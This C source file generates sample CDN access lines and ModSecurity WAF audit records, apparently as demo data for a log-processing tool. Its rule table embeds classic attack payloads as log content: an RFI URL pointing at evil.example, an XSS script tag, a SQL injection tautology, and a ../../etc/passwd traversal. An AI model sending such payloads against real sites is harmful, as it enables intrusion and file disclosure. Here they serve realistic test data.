/*
 * demo_gen.c: sample CDN access lines and WAF audit records (see
 * demo_gen.h). The value pools are small but varied enough that routes on
 * status, country, layer or WAF rule have something to select; the WAF
 * records carry the parts of a real ModSecurity v3 audit log that users
 * route and filter on (client_ip, request, response, producer, messages with
 * ruleId/severity/tags), including the quoting in `match` that trips naive
 * parsers.
 */
#include "input/demo_gen.h"

#include <stdio.h>
#include <string.h>
#include <time.h>

#include "record/json_encode.h"

#define N(a) (sizeof(a) / sizeof((a)[0]))

static const char *const ips[] = {
    "83.149.9.216",  "89.160.20.112", "2.136.77.41",  "81.2.69.142",
    "216.160.83.56", "175.16.199.3",  "67.43.156.12", "2001:db8:85a3::8a2e:370:7334",
    "149.101.100.4", "212.47.235.81", "46.24.192.9",  "195.235.10.77",
};
static const char *const countries[] = {"ES", "ES", "ES", "FR", "DE", "US", "GB", "PT", "MX", "AR", "-"};
static const char *const verbs[] = {"GET", "GET", "GET", "GET", "GET", "HEAD", "POST", "OPTIONS"};
static const char *const paths[] = {
    "/",
    "/index.html",
    "/static/js/app.8f3a1c.js",
    "/static/css/main.css",
    "/img/logo.svg",
    "/img/hero-1920.webp",
    "/api/v1/products?page=2&sort=price",
    "/search?q=zapatillas+running&lang=es",
    "/fonts/roboto-v30-latin-regular.woff2",
    "/favicon.ico",
    "/wp-login.php",
    "/news/2024/11/la-liga-resultados.html",
};
static const char *const vod_paths[] = {
    "/live/canal1/index.m3u8",
    "/live/canal1/1080p/segment_184467.ts",
    "/vod/peliculas/estreno/master.m3u8",
    "/vod/peliculas/estreno/720p/chunk_00042.m4s",
    "/dash/deportes/manifest.mpd",
};
static const char *const ctypes[] = {
    "text/html; charset=utf-8",
    "application/javascript",
    "text/css",
    "image/svg+xml",
    "image/webp",
    "application/json",
    "font/woff2",
    "image/x-icon",
    "-",
};
static const char *const vod_ctypes[] = {"application/vnd.apple.mpegurl", "video/mp2t", "video/iso.segment",
                                         "application/dash+xml"};
static const char *const uas[] = {
    "Mozilla/5.0 (iPhone; CPU iPhone OS 13_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/13.1.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 "
    "Mobile "
    "Safari/537.36",
    "Googlebot/2.1 (+http://www.google.com/bot.html)",
    "curl/7.88.1",
    "AppleCoreMedia/1.0.0.20G165 (iPhone; U; CPU OS 16_6 like Mac OS X; es_es)",
    "-",
};
static const char *const referers[] = {
    "-",
    "https://www.example.es/",
    "https://www.google.com/",
    "https://www.example.es/search?q=ofertas",
    "https://m.facebook.com/",
};
static const char *const hitmiss[] = {"hit", "hit", "hit", "miss", "pass", "expired"};
static const char *const layers[] = {"L1", "L1", "L1", "L2"};
static const char *const vod_hosts[] = {"vod.example.es", "live.example.es", "media.example.es"};
static const int statuses[] = {200, 200, 200, 200, 200, 200, 206, 301, 304, 304, 403, 404, 500, 503};
static const char *const months[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                     "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
static const char *const wdays[] = {"Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat"};

/* Attacks as the provider sends them: one message object per record. */
typedef struct waf_rule {
    const char *id, *message, *file, *line, *severity, *tag, *method, *uri, *data, *match;
} waf_rule;
static const waf_rule rules[] = {
    {"920350", "Host header is a numeric IP address", "REQUEST-920-PROTOCOL-ENFORCEMENT.conf", "733", "4",
     "attack-protocol", "GET", "/", "34.87.56.16",
     "Matched \"Operator `Rx' with parameter `^[\\d.:]+$' against variable `REQUEST_HEADERS:Host' "
     "(Value: `34.87.56.16' )"},
    {"931120",
     "Possible Remote File Inclusion (RFI) Attack: URL Payload Used w/Trailing Question Mark Character (?)",
     "REQUEST-931-APPLICATION-ATTACK-RFI.conf", "78", "2", "attack-rfi", "GET",
     "/index.php?page=http://evil.example/shell.txt?", "ARGS:page: http://evil.example/shell.txt?",
     "Matched \"Operator `Rx' with parameter `^(?i:file|ftps?|https?).*?\\?+$' against variable `ARGS:page' "
     "(Value: `http://evil.example/shell.txt?' )"},
    {"941100", "XSS Attack Detected via libinjection", "REQUEST-941-APPLICATION-ATTACK-XSS.conf", "55", "2",
     "attack-xss", "GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "ARGS:q: <script>alert(1)</script>",
     "detected XSS using libinjection."},
    {"942100", "SQL Injection Attack Detected via libinjection", "REQUEST-942-APPLICATION-ATTACK-SQLI.conf",
     "45", "2", "attack-sqli", "POST", "/api/v1/login",
     "Matched Data: s&sos found within ARGS:user: admin' or '1'='1", "detected SQLi using libinjection."},
    {"930120", "OS File Access Attempt", "REQUEST-930-APPLICATION-ATTACK-LFI.conf", "106", "2", "attack-lfi",
     "GET", "/download?file=../../etc/passwd",
     "Matched Data: etc/passwd found within ARGS:file: ../../etc/passwd",
     "Matched \"Operator `PmFromFile' with parameter `lfi-os-files.data' against variable `ARGS:file' "
     "(Value: `../../etc/passwd' )"},
    {"913100", "Found User-Agent associated with security scanner", "REQUEST-913-SCANNER-DETECTION.conf",
     "33", "2", "attack-reputation-scanner", "GET", "/wp-login.php",
     "Matched Data: nikto found within REQUEST_HEADERS:User-Agent: mozilla/5.00 (nikto/2.1.6)",
     "Matched \"Operator `PmFromFile' with parameter `scanners-user-agents.data' against variable "
     "`REQUEST_HEADERS:User-Agent' (Value: `Mozilla/5.00 (Nikto/2.1.6)' )"},
};

/* xorshift64*: fast, deterministic, good enough for sample data. */
static uint64_t next_rand(lr_demo_gen *g)
{
    uint64_t x = g->rng;
    x ^= x >> 12;
    x ^= x << 25;
    x ^= x >> 27;
    g->rng = x;
    return x * 2685821657736338717ull;
}

static size_t pick(lr_demo_gen *g, size_t n)
{
    return (size_t)(next_rand(g) % n);
}

#define PICK(g, a) ((a)[pick(g, N(a))])

void lr_demo_gen_init(lr_demo_gen *g, uint64_t seed, int client_id, int64_t start_ms)
{
    g->rng = seed ? seed : 0x9e3779b97f4a7c15ull;
    g->seq = 0;
    g->client_id = client_id;
    if (start_ms <= 0) {
        struct timespec ts;
        clock_gettime(CLOCK_REALTIME, &ts);
        start_ms = (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
    }
    g->clock_ms = start_ms;
}

static struct tm advance(lr_demo_gen *g)
{
    g->clock_ms += (int64_t)pick(g, 40);
    g->seq++;
    time_t t = (time_t)(g->clock_ms / 1000);
    struct tm tm;
    gmtime_r(&t, &tm);
    return tm;
}

/* "0.000193": request time in seconds, mostly cache-fast. */
static double req_time(lr_demo_gen *g)
{
    uint64_t r = next_rand(g);
    if (r % 10 < 7)
        return (double)(50 + r % 900) / 1e6;
    return (double)(1 + r % 2500) / 1e3;
}

bool lr_demo_gen_access(lr_demo_gen *g, int layout, lr_buf *out)
{
    if (layout < 0 || layout >= LR_DEMO_LAYOUT_COUNT) {
        size_t r = pick(g, 10);
        layout = r < 7 ? LR_DEMO_ACCESS_CDN : r < 9 ? LR_DEMO_ACCESS_VOD : LR_DEMO_ACCESS_VOD_NOCC;
    }
    struct tm tm = advance(g);
    char ts[40];
    snprintf(ts, sizeof ts, "%02d/%s/%04d:%02d:%02d:%02d +0000", tm.tm_mday, months[tm.tm_mon],
             tm.tm_year + 1900, tm.tm_hour, tm.tm_min, tm.tm_sec);
    const char *ip = PICK(g, ips);
    const char *user = pick(g, 20) == 0 ? "frank" : "-";
    int status = PICK(g, statuses);
    uint64_t bytes = status == 304 ? 0 : 200 + next_rand(g) % 250000;
    const char *proto = pick(g, 10) < 8 ? "https" : "http";
    const char *ver = pick(g, 3) == 0 ? "HTTP/2.0" : "HTTP/1.1";
    char id[16];
    snprintf(id, sizeof id, "%d", g->client_id);

    if (layout == LR_DEMO_ACCESS_CDN) {
        return lr_buf_printf(
            out, "%s - %s [%s] \"%s %s %s\" %d %llu \"%s\" %s \"%s\" \"%s\" %.6f \"%s\" \"%s\" %s %s", ip,
            user, ts, PICK(g, verbs), PICK(g, paths), ver, status, (unsigned long long)bytes, PICK(g, uas),
            PICK(g, hitmiss), PICK(g, ctypes), PICK(g, layers), req_time(g), id, PICK(g, referers), proto,
            PICK(g, countries));
    }
    bool ok = lr_buf_printf(out,
                            "%s - %s [%s] %s \"%s %s %s\" %d %llu \"%s\" \"%s\" \"%s\" \"%s\" \"%s\" \"%s\" "
                            "%.6f %s",
                            ip, user, ts, PICK(g, vod_hosts), pick(g, 8) ? "GET" : "HEAD", PICK(g, vod_paths),
                            ver, status, (unsigned long long)bytes, PICK(g, referers), PICK(g, uas),
                            PICK(g, vod_ctypes), PICK(g, hitmiss), PICK(g, layers), id, req_time(g), proto);
    if (ok && layout == LR_DEMO_ACCESS_VOD)
        ok = lr_buf_printf(out, " %s", PICK(g, countries));
    return ok;
}

static bool kv_str(lr_buf *out, const char *key, const char *val, bool comma)
{
    bool ok = true;
    if (comma)
        ok = lr_buf_append_char(out, ',');
    ok = ok && lr_json_encode_string(out, key, strlen(key)) && lr_buf_append_char(out, ':');
    return ok && lr_json_encode_string(out, val, strlen(val));
}

bool lr_demo_gen_waf(lr_demo_gen *g, lr_buf *out)
{
    struct tm tm = advance(g);
    const waf_rule *r = &PICK(g, rules);
    const char *ip = PICK(g, ips);
    const char *host = "www.example.es";
    int code = pick(g, 4) == 0 ? 200 : 403;
    char ts[40], date[48], uid[40], sid[48];
    snprintf(ts, sizeof ts, "%s %s %2d %02d:%02d:%02d %04d", wdays[tm.tm_wday], months[tm.tm_mon], tm.tm_mday,
             tm.tm_hour, tm.tm_min, tm.tm_sec, tm.tm_year + 1900);
    snprintf(date, sizeof date, "%s, %02d %s %04d %02d:%02d:%02d GMT", wdays[tm.tm_wday], tm.tm_mday,
             months[tm.tm_mon], tm.tm_year + 1900, tm.tm_hour, tm.tm_min, tm.tm_sec);
    /* unique_id as ModSecurity writes it: epoch with microseconds, then a counter */
    snprintf(uid, sizeof uid, "%lld%03u.%06llu", (long long)(g->clock_ms / 1000),
             (unsigned)(g->clock_ms % 1000), (unsigned long long)(g->seq % 1000000));
    snprintf(sid, sizeof sid, "%016llx%016llx", (unsigned long long)next_rand(g),
             (unsigned long long)next_rand(g));

    bool ok = lr_buf_append_str(out, "{\"transaction\":{");
    ok = ok && kv_str(out, "client_ip", ip, false) && kv_str(out, "time_stamp", ts, true);
    ok = ok && kv_str(out, "server_id", sid, true);
    ok = ok && lr_buf_printf(out, ",\"client_port\":%u", 1024 + (unsigned)pick(g, 64000));
    ok = ok && kv_str(out, "host_ip", "10.0.1.175", true) && lr_buf_append_str(out, ",\"host_port\":443");
    ok = ok && kv_str(out, "unique_id", uid, true);
    ok = ok && lr_buf_append_str(out, ",\"request\":{") && kv_str(out, "method", r->method, false);
    ok = ok && lr_buf_append_str(out, ",\"http_version\":1.1") && kv_str(out, "uri", r->uri, true);
    ok = ok && lr_buf_append_str(out, ",\"headers\":{") && kv_str(out, "Host", host, false);
    ok = ok && kv_str(out, "User-Agent", PICK(g, uas), true) && kv_str(out, "Accept", "*/*", true);
    ok = ok && lr_buf_append_str(out, "}},\"response\":{\"body\":\"\"");
    ok = ok && lr_buf_printf(out, ",\"http_code\":%d,\"headers\":{", code);
    ok = ok && kv_str(out, "Server", "nginx", false) && kv_str(out, "Date", date, true);
    ok =
        ok && kv_str(out, "Content-Type", "text/html", true) && kv_str(out, "Connection", "keep-alive", true);
    ok = ok && lr_buf_append_str(out, "}},\"producer\":{");
    ok = ok && kv_str(out, "modsecurity", "ModSecurity v3.0.8 (Linux)", false);
    ok = ok && kv_str(out, "connector", "ModSecurity-nginx v1.0.3", true);
    ok = ok && kv_str(out, "secrules_engine", "Enabled", true);
    ok = ok && lr_buf_append_str(out, ",\"components\":[\"OWASP_CRS/3.3.2\"]}");
    ok = ok && lr_buf_append_str(out, ",\"messages\":{") && kv_str(out, "message", r->message, false);
    ok = ok && lr_buf_append_str(out, ",\"details\":{") && kv_str(out, "match", r->match, false);
    ok = ok && kv_str(out, "reference", "o0,11v25,11", true) && kv_str(out, "ruleId", r->id, true);
    char file[160];
    snprintf(file, sizeof file, "/etc/nginx/modsec/coreruleset/rules/%s", r->file);
    ok = ok && kv_str(out, "file", file, true) && kv_str(out, "lineNumber", r->line, true);
    ok = ok && kv_str(out, "data", r->data, true) && kv_str(out, "severity", r->severity, true);
    ok = ok && kv_str(out, "ver", "OWASP_CRS/3.3.2", true) && kv_str(out, "rev", "", true);
    ok = ok && lr_buf_append_str(out, ",\"tags\":[") && lr_json_encode_string(out, r->tag, strlen(r->tag));
    ok = ok && lr_buf_append_str(out, ",\"application-multi\",\"language-multi\",\"platform-multi\"]");
    ok = ok && kv_str(out, "maturity", "0", true) && kv_str(out, "accuracy", "0", true);
    return ok && lr_buf_append_str(out, "}}}}");
}
